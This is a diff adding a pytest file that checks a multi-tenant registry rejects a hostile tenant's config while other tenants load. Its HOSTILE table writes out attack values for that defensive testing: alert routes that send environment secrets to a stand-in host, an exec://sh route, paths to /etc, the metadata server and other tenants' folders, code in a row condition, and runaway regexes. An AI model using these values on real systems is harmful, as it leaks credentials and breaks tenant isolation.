@@ -1,0 +1,165 @@
+"""Whatever a tenant's files ask for that is not its own: refused at file and line, the others go on; so, too, for a version
+that was accepted before there was the rule, and where that tenant alone is loaded."""
+
+from collections.abc import Callable
+from datetime import date
+from pathlib import Path
+
+import pytest
+
+from convergence_assets.tenancy.registry import Settled, load_registry
+
+TODAY = date(2026, 11, 23)
+OTHERS = {"acme", "globex", "initech"}
+TENANT = "tenant.yaml"
+PIPELINE = "pipelines/total_cost/pipeline.yaml"
+SUITE = "pipelines/total_cost/expectations/licences.yaml"
+EXPORT = "mallory_billing_export.gcp_billing_export_resource_v1_2C3D4E_5F6A7B_8C9D0E"
+PATH = "{{ landing }}/licences/{date}/*.csv"
+ROUTE = 'alerts: {{routes: [{{severities: [critical], to: "{to}"}}]}}\nplan: starter'
+MINUTES = "max_pipeline_duration_minutes: 30"
+
+Change = tuple[str, str, str]
+
+
+def route(to: str) -> Change:
+    return (TENANT, "plan: starter", ROUTE.format(to=to))
+
+
+def table(name: str) -> Change:
+    return (TENANT, EXPORT, name)
+
+
+def path(said: str) -> Change:
+    return (PIPELINE, PATH, said)
+
+
+def expectation(type_: str, kwargs: str) -> Change:
+    return (SUITE, "expectations:\n", f"expectations:\n  - type: {type_}\n    kwargs: {{column: vendor, {kwargs}}}\n")
+
+
+HOSTILE: dict[str, Change] = {
+    "the admin key": route("jsons://h.example/${env:CONVERGENCE_ADMIN_KEY}"),
+    "the metrics token": route("jsons://h.example/${env:CONVERGENCE_METRICS_TOKEN}"),
+    "a cloud key": route("jsons://h.example/${env:AWS_SECRET_ACCESS_KEY}"),
+    "Google's key file": route("${env:GOOGLE_APPLICATION_CREDENTIALS}"),
+    "Dagster's database": route("jsons://h.example/${env:DAGSTER_PG_PASSWORD}"),
+    "libpq's password": route("jsons://h.example/${env:PGPASSWORD}"),
+    "Redis": route("jsons://h.example/${env:REDIS_URL}"),
+    "another tenant's variable": route("${env:ACME__SLACK_URL}"),
+    "the search path": route("jsons://h.example/${env:PATH}"),
+    "two variables, one its own": route("jsons://h.example/${env:MALLORY__A}${env:HOME}"),
+    "the system's log": route("syslog://localhost"),
+    "a bus of the desktop": route("dbus://"),
+    "a program": route("exec://sh"),
+    "another tenant's table": table("globex.gcp_cost_daily"),
+    "another tenant's table, in capitals": table("GLOBEX.gcp_cost_daily"),
+    "another tenant's staging": table("_staging_globex.gcp_cost_daily"),
+    "another tenant's ledger": table("acme.x_meta_pipeline_runs"),
+    "what the warehouse says of itself": table("globex.INFORMATION_SCHEMA"),
+    "another tenant's export": table("globex_billing_export.gcp_billing_export_resource_v1_1B2C3D_4E5F6A_7B8C9D"),
+    "the platform's dataset": table("convergence_meta.runs"),
+    "the password file": path("/etc/{date}"),
+    "the root": path("/{date}"),
+    "a process": path("/proc/self/{date}"),
+    "another tenant's landing folder": path("{{ landing }}/../globex/{date}/*"),
+    "a folder that begins like its own": path("{{ landing }}_eu/{date}/*"),
+    "a file by its scheme": path("file:///etc/{date}"),
+    "the metadata server": path("http://169.254.169.254/{date}"),
+    "memory": path("memory://x/{date}"),
+    "a cache around a bucket": path("simplecache::s3://b/x/{date}"),
+    "a whole bucket": path("gs://bucket/{date}"),
+    "a password in a URL": path("https://me:secret@h.example/x/{date}"),
+    "a larger plan": (TENANT, "plan: starter", "plan: enterprise"),
+    "another project": (TENANT, "location: asia-south1", "location: asia-south1, project: their-project"),
+    "another account": (TENANT, "plan: starter", "plan: starter\nservice_account: admin-of-all@p.iam.gserviceaccount.com"),
+    "more bytes": (PIPELINE, MINUTES, "maximum_gigabytes_billed: 100000"),
+    "more time": (PIPELINE, MINUTES, "max_pipeline_duration_minutes: 1440"),
+    "more rows in a frame": (PIPELINE, MINUTES, "validate_in_warehouse_above_rows: 1000000000"),
+    "code in a row condition": expectation("expect_column_values_to_not_be_null",
+                                           "row_condition: \"vendor.to_csv('/tmp/x')\", condition_parser: pandas"),
+    "a pattern that looks ahead": expectation("expect_column_values_to_match_regex", "regex: '(?=a)b'"),
+    "a pattern without end": expectation("expect_column_values_to_match_regex", "regex: '(a{900}){900}'"),
+    "a schema in a file": expectation("expect_column_values_to_match_json_schema",
+                                      "json_schema: {$ref: 'file:///etc/passwd'}"),
+}  # fmt: skip
+
+
+@pytest.fixture
+def mallory(tenants: Path) -> Callable[[Change | None], Path]:
+    """A tenant like initech, with one change; its folder."""
+
+    def made(change: Change | None) -> Path:
+        folder = tenants / "mallory"
+        for file in (tenants / "initech").rglob("*"):
+            if file.is_file():
+                target = folder / file.relative_to(tenants / "initech")
+                target.parent.mkdir(parents=True, exist_ok=True)
+                target.write_text(file.read_text().replace("initech", "mallory"))
+        if change:
+            name, old, new = change
+            text = (folder / name).read_text()
+            assert old in text, (old, text)
+            (folder / name).write_text(text.replace(old, new, 1))
+        return folder
+
+    return made
+
+
+def test_without_a_change_the_tenant_is_served(tenants: Path, mallory: Callable[[Change | None], Path]) -> None:
+    mallory(None)
+    registry = load_registry(str(tenants), None, today=TODAY)
+    assert not registry.problems, [problem.render() for problem in registry.problems]
+
+
+@pytest.mark.parametrize("change", HOSTILE.values(), ids=HOSTILE)
+def test_it_is_refused_at_its_file_and_line_and_the_others_go_on(
+    tenants: Path, tmp_path: Path, mallory: Callable[[Change | None], Path], change: Change
+) -> None:
+    load_registry(str(tenants), tmp_path / "accepted", today=TODAY)  # the others were there first
+    folder = mallory(change)
+    registry = load_registry(str(tenants), tmp_path / "accepted", today=TODAY)
+    assert set(registry.tenants) == OTHERS
+    for problem in registry.rejected["mallory"].problems:
+        assert problem.file.startswith(str(folder))
+        assert problem.line
+
+
+@pytest.mark.parametrize("change", [None, *HOSTILE.values()], ids=["nothing of another's", *HOSTILE])
+def test_a_version_that_was_accepted_before_is_served_by_no_load_but_where_it_asks_for_its_own(
+    tenants: Path, tmp_path: Path, mallory: Callable[[Change | None], Path], change: Change | None
+) -> None:
+    accepted = tmp_path / "accepted"
+    load_registry(str(tenants), accepted, today=TODAY)
+    folder = mallory(change)
+    kept = accepted / ".versions" / "mallory" / "of-yesterday"
+    for file in folder.rglob("*"):
+        if file.is_file():
+            target = kept / file.relative_to(folder)
+            target.parent.mkdir(parents=True, exist_ok=True)
+            target.write_bytes(file.read_bytes())
+    (kept / ".defaults.yaml").write_text(
+        (tenants / "_defaults.yaml").read_text().replace("plan: standard", "plan: enterprise")
+    )
+    (accepted / "mallory").symlink_to(Path(".versions") / "mallory" / "of-yesterday")
+    (folder / TENANT).write_text((folder / TENANT).read_text().replace("timezone:", "time zone:"))
+    whole = load_registry(str(tenants), accepted, today=TODAY)
+    assert set(whole.tenants) == (OTHERS if change else OTHERS | {"mallory"})
+    settled = Settled(owners={**whole.owners, f".{EXPORT}".lower(): "mallory"})
+    alone = load_registry(str(tenants), accepted, today=TODAY, only=["mallory"], settled=settled)
+    assert set(alone.tenants) == (set() if change else {"mallory"})
+
+
+def test_all_of_it_at_once_delays_nobody(tenants: Path, mallory: Callable[[Change | None], Path]) -> None:
+    folder = mallory(None)
+    for name, (file, old, new) in HOSTILE.items():
+        own = tenants / f"mallory{list(HOSTILE).index(name)}x"
+        for one in folder.rglob("*"):
+            if one.is_file():
+                target = own / one.relative_to(folder)
+                target.parent.mkdir(parents=True, exist_ok=True)
+                target.write_text(one.read_text().replace("mallory", own.name))
+        (own / file).write_text((own / file).read_text().replace(old.replace("mallory", own.name), new, 1))
+    registry = load_registry(str(tenants), None, today=TODAY)
+    assert OTHERS - {"globex"} <= set(registry.tenants)
+    assert len(registry.rejected) >= len(HOSTILE)
